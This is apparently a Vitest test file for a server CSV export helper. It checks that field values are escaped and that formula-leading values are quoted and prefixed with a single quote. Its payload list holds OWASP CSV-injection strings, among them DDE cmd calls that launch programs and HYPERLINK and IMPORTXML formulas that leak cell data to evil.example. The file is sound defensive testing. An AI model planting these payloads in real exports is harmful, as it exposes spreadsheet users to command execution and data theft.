import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../../src/lib/server/toCsv';
import { parseCsv } from '../../fixtures/parseCsv';

// OWASP CSV Injection page's examples, plus the probes and the tab / carriage-return starts.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '+1+1',
  '-5 boats',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")'
];

describe('csvField', () => {
  it.each(OWASP_PAYLOADS)('neutralises %j: quoted, single quote first', (payload) => {
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(field).toBe(`"'${payload.replace(/"/g, '""')}"`);
    // Read back as one cell whose text is the payload behind a quote.
    expect(parseCsv(`${field},x\r\n`)).toEqual([[`'${payload}`, 'x']]);
  });

  it.each([
    { value: 'plain', csv: 'plain' },
    { value: 'a, b', csv: '"a, b"' },
    { value: 'a; b', csv: '"a; b"' },
    { value: 'say "hi"', csv: '"say ""hi"""' },
    { value: 'two\nlines', csv: '"two\nlines"' },
    { value: ' padded', csv: '" padded"' },
    { value: 'x=1+1', csv: 'x=1+1' },
    { value: "'quoted", csv: "'quoted" },
    { value: 42, csv: '42' },
    { value: -3, csv: '-3' },
    { value: null, csv: '' },
    { value: undefined, csv: '' }
  ])('csvField($value) is $csv', ({ value, csv }) => {
    expect(csvField(value)).toBe(csv);
  });
});

describe('toCsv', () => {
  it('writes a header and CRLF-ended records', () => {
    const rows = [
      { a: '=1+1', b: 2 },
      { a: 'x', b: null }
    ];
    expect(toCsv(['a', 'b'], rows)).toBe(`a,b\r\n"'=1+1",2\r\nx,\r\n`);
  });
});
